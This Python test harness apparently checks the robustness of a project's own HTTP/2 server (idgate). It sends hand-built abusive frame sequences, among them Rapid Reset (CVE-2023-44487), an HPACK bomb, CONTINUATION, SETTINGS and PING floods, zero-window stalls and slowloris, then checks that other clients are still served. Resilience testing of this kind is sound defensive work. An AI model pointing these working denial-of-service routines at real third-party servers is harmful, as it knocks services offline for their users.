#!/usr/bin/env python3
"""HTTP/2 abuse scenarios against a running idgate HTTP/2 server (h2c).

Usage: attacks.py SCENARIO HOST PORT
Prints one JSON object: what the attacked connection saw (statuses, resets, GOAWAY code, closed) and
`second_client_status`, the status a fresh, well-behaved connection got right after the attack.
Frames are written by hand (hyperframe + hpack, from the `h2` package) so the client can break the rules.

Deterministic on a busy machine: every scenario builds its frames before it connects (building thousands of frames
takes longer than a short idle timeout when other work loads the cores), and waits for the server's answer (a
status, a GOAWAY, the close) rather than for a clock: `WAIT` seconds only bound a server that never answers.
"""
import json
import socket
import sys
import time

from hpack import Decoder, Encoder
from hyperframe.frame import (ContinuationFrame, DataFrame, Frame, GoAwayFrame, HeadersFrame, PingFrame,
                              RstStreamFrame, SettingsFrame, WindowUpdateFrame)

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
ENHANCE_YOUR_CALM = 11
CANCEL = 8
# Upper bound on waiting for an answer the server must give: reached only when it does not (the test then fails).
WAIT = 30
DEFAULT_WINDOW = 65535


class RawClient:
    """A rule-breaking HTTP/2 client: sends arbitrary frames, records what the server answers."""

    def __init__(self, host, port, receive_buffer=None):
        self.address = (host, port)
        self.receive_buffer = receive_buffer
        self.sock = None
        self.encoder = Encoder()
        self.decoder = Decoder()
        self.decoder.max_allowed_table_size = 65536
        self.pending = b""
        self.statuses = {}
        self.bodies = {}
        self.resets = {}
        self.goaway = None
        self.closed = False
        self.settings_seen = False
        self.pings_acknowledged = 0
        # Send windows (what the server allows us to send): the connection's and each stream's.
        self.connection_window = DEFAULT_WINDOW
        self.initial_stream_window = DEFAULT_WINDOW
        self.stream_windows = {}

    def connect(self):
        """Connects; scenarios call this once their frames are built."""
        self.sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
        if self.receive_buffer:
            self.sock.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, self.receive_buffer)
        self.sock.connect(self.address)

    def send(self, data):
        try:
            self.sock.sendall(data)
            return True
        except OSError:
            self.closed = True
            return False

    @staticmethod
    def preface_bytes(settings=None):
        frame = SettingsFrame(0)
        frame.settings = settings or {}
        return PREFACE + frame.serialize()

    def preface(self, settings=None):
        return self.send(self.preface_bytes(settings))

    def settle(self):
        """Waits until the server's SETTINGS are in force both ways: ours acknowledged its SETTINGS, and a PING
        sent after that acknowledgement came back (the server reads in order, so it has applied our ACK)."""
        self.read(timeout=WAIT, until=lambda: self.settings_seen)
        self.send(PingFrame(0, opaque_data=b"settled!").serialize())
        self.read(timeout=WAIT, until=lambda: self.pings_acknowledged >= 1)

    def send_window(self, stream_id):
        return min(self.connection_window, self.stream_windows.get(stream_id, self.initial_stream_window))

    def spend_window(self, stream_id, count):
        self.connection_window -= count
        self.stream_windows[stream_id] = self.stream_windows.get(stream_id, self.initial_stream_window) - count

    def request_headers(self, method="GET", path="/hello", extra=()):
        return [(":method", method), (":scheme", "http"), (":authority", "localhost"), (":path", path)] + list(extra)

    def headers(self, stream_id, headers, end_stream=True, end_headers=True):
        frame = HeadersFrame(stream_id)
        frame.data = self.encoder.encode(headers)
        frame.flags.add("END_HEADERS") if end_headers else None
        frame.flags.add("END_STREAM") if end_stream else None
        return frame.serialize()

    def data(self, stream_id, payload, end_stream=False):
        frame = DataFrame(stream_id)
        frame.data = payload
        if end_stream:
            frame.flags.add("END_STREAM")
        return frame.serialize()

    def read(self, timeout=WAIT, until=None):
        """Reads frames until the connection closes, `until()` is true, or `timeout` seconds pass."""
        deadline = time.time() + timeout
        while time.time() < deadline and not self.closed:
            if until and until():
                return
            self.sock.settimeout(max(0.01, deadline - time.time()))
            try:
                chunk = self.sock.recv(65536)
            except socket.timeout:
                continue
            except OSError:
                self.closed = True
                return
            if not chunk:
                self.closed = True
                return
            self.pending += chunk
            self._parse()

    def _parse(self):
        while len(self.pending) >= 9:
            frame, length = Frame.parse_frame_header(memoryview(self.pending[:9]))
            if len(self.pending) < 9 + length:
                return
            frame.parse_body(memoryview(self.pending[9:9 + length]))
            self.pending = self.pending[9 + length:]
            if isinstance(frame, SettingsFrame) and "ACK" not in frame.flags:
                if SettingsFrame.INITIAL_WINDOW_SIZE in frame.settings:
                    self.initial_stream_window = frame.settings[SettingsFrame.INITIAL_WINDOW_SIZE]
                self.settings_seen = True
                self.send(SettingsFrame(0, flags=["ACK"]).serialize())
            elif isinstance(frame, PingFrame) and "ACK" in frame.flags:
                self.pings_acknowledged += 1
            elif isinstance(frame, WindowUpdateFrame):
                if frame.stream_id == 0:
                    self.connection_window += frame.window_increment
                else:
                    self.stream_windows[frame.stream_id] = (
                        self.stream_windows.get(frame.stream_id, self.initial_stream_window) + frame.window_increment)
            elif isinstance(frame, HeadersFrame):
                fields = dict(self.decoder.decode(frame.data))
                if ":status" in fields:
                    self.statuses[frame.stream_id] = int(fields[":status"])
            elif isinstance(frame, DataFrame):
                self.bodies[frame.stream_id] = self.bodies.get(frame.stream_id, b"") + frame.data
            elif isinstance(frame, RstStreamFrame):
                self.resets[frame.stream_id] = frame.error_code
            elif isinstance(frame, GoAwayFrame):
                self.goaway = frame.error_code

    def report(self, **extra):
        result = {
            "statuses": {str(k): v for k, v in self.statuses.items()},
            "resets": {str(k): v for k, v in self.resets.items()},
            "goaway": self.goaway,
            "closed": self.closed,
        }
        result.update(extra)
        return result


def well_behaved_status(host, port):
    """A fresh connection's GET /hello: the server must still serve others."""
    try:
        client = RawClient(host, port)
        request = client.preface_bytes() + client.headers(1, client.request_headers())
        client.connect()
        client.send(request)
        client.read(until=lambda: 1 in client.statuses)
        client.sock.close()
        return client.statuses.get(1)
    except OSError:
        return None


def bad_preface(c):
    c.connect()
    c.send(b"GARBAGE\x00\x01\x02 this is not the HTTP/2 connection preface at all....")
    c.read()
    return c.report()


def malformed_frame(c):
    c.connect()
    # A PING must be exactly 8 bytes long: a 3-byte PING is a FRAME_SIZE_ERROR.
    c.send(c.preface_bytes() + b"\x00\x00\x03\x06\x00\x00\x00\x00\x00abc")
    c.read()
    return c.report()


def oversized_headers(c):
    first = c.preface_bytes() + c.headers(1, c.request_headers(extra=[("x-big", "a" * 20000)]))
    second = c.headers(3, c.request_headers())
    c.connect()
    c.send(first)
    c.read(until=lambda: 1 in c.statuses)
    c.send(second)
    c.read(until=lambda: 3 in c.statuses)
    return c.report()


def hpack_bomb(c):
    # One 4000-byte field enters the dynamic table; each repetition then costs one byte on the wire.
    bomb = [("x-bomb", "b" * 4000)] * 4000
    block = c.encoder.encode(c.request_headers() + bomb)
    frames = b""
    first = True
    while block:
        piece, block = block[:16384], block[16384:]
        frame = HeadersFrame(1) if first else ContinuationFrame(1)
        frame.data = piece
        if first:
            frame.flags.add("END_STREAM")
        if not block:
            frame.flags.add("END_HEADERS")
        frames += frame.serialize()
        first = False
    second = c.headers(3, c.request_headers())
    c.connect()
    c.send(c.preface_bytes() + frames)
    c.read(until=lambda: 1 in c.statuses)
    c.send(second)
    c.read(until=lambda: 3 in c.statuses)
    return c.report(wire_bytes=len(frames), decoded_bytes=4000 * 4006)


def too_many_streams(c, count=300):
    # All at once, before acknowledging the server's SETTINGS (as an eager client would).
    frames = c.preface_bytes() + b"".join(c.headers(2 * i + 1, c.request_headers()) for i in range(count))
    c.connect()
    c.send(frames)
    c.read(until=lambda: len(c.statuses) + len(c.resets) >= count)
    refused = sum(1 for code in c.resets.values() if code == 7)
    return c.report(served=len(c.statuses), refused=refused)


def body_too_large(c, total=6 << 20):
    # 6 MB, past the limit and past what the server drains before resetting, sent as the server's flow-control
    # windows allow (it re-opens them as it discards), until it answers 413 and resets the stream.
    chunk = b"x" * 16384
    frame = c.data(1, chunk)
    c.connect()
    c.preface()
    c.settle()  # the server's 1 MiB stream window applies
    c.send(c.headers(1, c.request_headers("POST", "/echo"), end_stream=False))
    sent = 0
    while sent < total and 1 not in c.resets and not c.closed:
        if c.send_window(1) < len(chunk):
            c.read(until=lambda: c.send_window(1) >= len(chunk) or 1 in c.resets)
            if c.send_window(1) < len(chunk):
                break
        burst = min(32, c.send_window(1) // len(chunk), (total - sent) // len(chunk))
        if not c.send(frame * burst):
            break
        c.spend_window(1, burst * len(chunk))
        sent += burst * len(chunk)
    c.read(until=lambda: 1 in c.statuses and 1 in c.resets)
    body = c.bodies.get(1, b"").decode(errors="replace")
    return c.report(body=body, sent_bytes=sent)


def rapid_reset(c, count=5000, method="POST", path="/echo"):
    """CVE-2023-44487: open a stream and cancel it at once, thousands of times. With POST /echo and no body the
    requests never reach their handler; with GET /hold each reaches it and is cancelled right away."""
    frames = c.preface_bytes()
    for i in range(count):
        stream_id = 2 * i + 1
        frames += c.headers(stream_id, c.request_headers(method, path), end_stream=method == "GET")
        frames += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
    c.connect()
    c.send(frames)
    c.read()
    return c.report()


def rapid_reset_started(c):
    return rapid_reset(c, method="GET", path="/hold")


def cancel_in_flight(c, rounds=3, count=100, after=0.3):
    """A client under overload: its requests (GET /hold, whose answer starts and never ends) time out and it
    cancels them, round after round, then still uses the connection. Each request is cancelled `after` seconds
    after its response headers arrived, so its handler had it at least that long."""
    c.connect()
    c.preface()
    c.settle()
    next_id = 1
    for _ in range(rounds):
        ids = list(range(next_id, next_id + 2 * count, 2))
        next_id += 2 * count
        c.send(b"".join(c.headers(i, c.request_headers("GET", "/hold")) for i in ids))
        c.read(until=lambda: all(i in c.statuses for i in ids) or c.closed)
        time.sleep(after)  # the client's timeout: only makes the handlers' work longer, never shorter
        c.send(b"".join(RstStreamFrame(i, error_code=CANCEL).serialize() for i in ids))
    c.send(c.headers(next_id, c.request_headers()))
    c.read(until=lambda: next_id in c.statuses or c.closed)
    cancelled = sum(1 for i in range(1, next_id, 2) if i in c.statuses)
    return c.report(cancelled=cancelled, last_status=c.statuses.get(next_id))


def cancel_shed(c, count=300):
    """A client of an overloaded server: its requests waited in the server's queue past its timeout, so the server
    reads each request together with its cancellation, and sheds it (GET /shed answers 503 at once). All of it in
    one write, as the server finds it after the wait; then the client still uses the connection."""
    frames = c.preface_bytes()
    ids = [2 * i + 1 for i in range(count)]
    for stream_id in ids:
        frames += c.headers(stream_id, c.request_headers("GET", "/shed"))
        frames += RstStreamFrame(stream_id, error_code=CANCEL).serialize()
    last = 2 * count + 1
    frames += c.headers(last, c.request_headers())
    c.connect()
    c.send(frames)
    c.read(until=lambda: last in c.statuses or c.closed)
    return c.report(last_status=c.statuses.get(last))


def continuation_flood(c, count=10000):
    frames = c.preface_bytes() + c.headers(1, c.request_headers(), end_stream=True, end_headers=False)
    for _ in range(count):
        frame = ContinuationFrame(1)
        frame.data = c.encoder.encode([("x-flood", "y")])
        frames += frame.serialize()
    c.connect()
    c.send(frames)
    c.read()
    return c.report()


def settings_flood(c, count=20000):
    frames = c.preface_bytes() + b"".join(SettingsFrame(0).serialize() for _ in range(count))
    c.connect()
    c.send(frames)
    c.read()
    return c.report()


def ping_flood(c, count=20000):
    frames = c.preface_bytes() + b"".join(PingFrame(0, opaque_data=b"12345678").serialize() for _ in range(count))
    c.connect()
    c.send(frames)
    c.read()
    return c.report()


def zero_window(c):
    # The client allows no response data at all and never opens its window: the response stays buffered
    # (bounded by its size) until the idle timeout closes the connection.
    request = c.preface_bytes({SettingsFrame.INITIAL_WINDOW_SIZE: 0}) + c.headers(1, c.request_headers("GET", "/big"))
    c.connect()
    c.send(request)
    start = time.time()
    c.read()
    return c.report(seconds_to_close=round(time.time() - start, 2), body_bytes=len(c.bodies.get(1, b"")))


def slowloris(c, count=20):
    others = [socket.create_connection(c.address) for _ in range(count)]
    c.connect()
    c.send(PREFACE[:10])  # a partial preface, then nothing
    start = time.time()
    status_during = well_behaved_status(*c.address)
    c.read()
    closed = 0
    for sock in others:
        sock.settimeout(max(0.1, WAIT - (time.time() - start)))
        try:
            while sock.recv(4096):
                pass
            closed += 1
        except (socket.timeout, OSError):
            pass
        sock.close()
    return c.report(seconds_to_close=round(time.time() - start, 2), idle_closed=closed,
                    status_during=status_during)


SCENARIOS = {f.__name__: f for f in [bad_preface, malformed_frame, oversized_headers, hpack_bomb, too_many_streams,
                                     body_too_large, rapid_reset, rapid_reset_started, cancel_in_flight,
                                     cancel_shed,
                                     continuation_flood, settings_flood, ping_flood, zero_window, slowloris]}

if __name__ == "__main__":
    scenario, host, port = sys.argv[1], sys.argv[2], int(sys.argv[3])
    client = RawClient(host, port, receive_buffer=4096 if scenario in ("settings_flood", "ping_flood") else None)
    result = SCENARIOS[scenario](client)
    result["second_client_status"] = well_behaved_status(host, port)
    print(json.dumps(result))
